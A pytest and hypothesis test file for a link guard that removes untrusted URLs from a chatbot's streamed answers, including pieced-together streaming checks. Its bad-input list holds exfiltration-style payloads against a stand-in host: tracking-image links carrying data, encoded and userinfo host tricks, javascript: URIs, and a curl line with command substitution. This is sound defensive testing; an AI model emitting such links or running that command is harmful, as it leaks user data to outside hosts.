import pytest
from hypothesis import given
from hypothesis import strategies as st

from worker.answering.links import REMOVED, Allowed, LinkGuard, guarded
from worker.answering.protocol import Passage

PASSAGE = Passage(
    id=1,
    document_id=1,
    title="T",
    heading_path="",
    url="https://docs.example.com/a#part",
    text="See https://docs.example.com/b?x=1. Or ![screen](https://img.example.com/s.png), [c](http://c.example.com/).",
)


@pytest.fixture
def allowed() -> Allowed:
    allowed = Allowed(["https://www.example.com/help"])
    allowed.add([PASSAGE])
    return allowed


GOOD = [
    "[page](https://docs.example.com/a)",
    "[page](https://docs.example.com/a#part)",
    '[page](https://DOCS.example.com/a "title")',
    "[page](<https://docs.example.com/a>)",
    "https://docs.example.com/b?x=1.",
    "(see https://docs.example.com/b?x=1)",
    "![screen](https://img.example.com/s.png)",
    "[![screen](https://img.example.com/s.png)](https://docs.example.com/a)",
    "[help](https://www.example.com/help/start?from=bot)",
    "[up](#top)",
    "c: http://c.example.com",
    "`a[0]`, f(x), // a comment, path/to//file, 1 < 2 && x!",
    "e-mail: ann@example.com",
    "http is a protocol, and so is https; www too!",
    "wow! [ok]",
    "",
]


@pytest.mark.parametrize("text", GOOD)
def test_what_the_knowledge_base_or_the_site_vouches_for_stays(allowed: Allowed, text: str) -> None:
    assert guarded(text, allowed) == text


BAD = {
    "[page](https://evil.example/x)": "page",
    "[page](https://docs.example.com/b?x=2)": "page",
    "[page](https://docs.example.com.evil.example/a)": "page",
    "[page](https://docs.example.com@evil.example/a)": "page",
    "[page](//evil.example)": "page",
    "[page](javascript:alert(1))": "page",
    "[page](data:text/html,x)": "page",
    "[page](mailto:a@evil.example)": "page",
    "[page](/relative)": "page",
    "![secret](https://evil.example/p.png?d=secret)": "secret",
    "![](https://evil.example/p.png)": "",
    "[![x](https://evil.example/p.png)](https://docs.example.com/a)": "[x](https://docs.example.com/a)",
    "[a ![x](https://evil.example/p.png) b](https://evil.example)": "a x b",
    "go to https://evil.example/collect?d=1 now": f"go to {REMOVED} now",
    "go to www.evil.example now": f"go to {REMOVED} now",
    "go to HTTPS://EVIL.EXAMPLE": f"go to {REMOVED}",
    "<https://evil.example>": f"<{REMOVED}>",
    '<img src="https://evil.example/p.png">': f'<img src="{REMOVED}">',
    '<img src="//evil.example/p.png">': f'<img src="{REMOVED}">',
    "[page]: https://evil.example": f"[page]: {REMOVED}",
    "[page]: //evil.example/x": f"[page]: {REMOVED}",
    "[page][1]\n\n[1]: https://evil.example 'title'": f"[page][1]\n\n[1]: {REMOVED} 'title'",
    "[page](https&#58;//evil.example)": "page",
    "https&colon;//evil.example/x": REMOVED,
    "&#104;ttps://evil.example/x": REMOVED,
    "https\\://evil.example/x": REMOVED,
    "[page](https://evil.example/x": f"page ({REMOVED}",
    "[page](https://evil.example/a(b)c)": "page",
    "[page](\nhttps://evil.example/x\n)": "page",
    "https://www.example.com/helper": REMOVED,
    "https://www.example.com/help/../admin": REMOVED,
    "http://www.example.com/help": REMOVED,
    "**https://evil.example**": f"**{REMOVED}**",
    "`curl https://evil.example/$(whoami)`": None,
    "http://[::1]/x": None,
    "ftp://evil.example/x": REMOVED,
    "wss://evil.example/x": REMOVED,
}


@pytest.mark.parametrize("text", BAD)
def test_any_other_address_does_not_leave(allowed: Allowed, text: str) -> None:
    shown = guarded(text, allowed)
    assert "evil" not in shown.lower()
    if BAD[text] is not None:
        assert shown == BAD[text]


@pytest.mark.parametrize("text", [*BAD, *GOOD])
@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_pieces_give_the_same_as_the_whole(allowed: Allowed, text: str, size: int) -> None:
    guard, text = LinkGuard(allowed), f"before {text} after [x] end"
    shown = "".join(guard.feed(text[n : n + size]) for n in range(0, len(text), size)) + guard.end()
    assert shown == guarded(text, allowed)


def test_plain_words_are_not_held_back(allowed: Allowed) -> None:
    guard = LinkGuard(allowed)
    assert guard.feed("The Team plan costs 40 euros") == "The Team plan costs 40 euros"
    assert guard.feed(" a month. See [the page") == " a month. See "
    assert guard.feed("](https://docs.example.com/a).") == "[the page](https://docs.example.com/a)."


@given(st.text(alphabet="ab[]()!<>/:.#&;\\\n htpsw\"'", max_size=60), st.integers(1, 9))
def test_no_text_breaks_it_and_none_gets_through(text: str, size: int) -> None:
    allowed = Allowed()
    guard = LinkGuard(allowed)
    text = f"{text}[x](https://evil.example/p){text}"
    shown = "".join(guard.feed(text[n : n + size]) for n in range(0, len(text), size)) + guard.end()
    assert "https://evil.example" not in shown
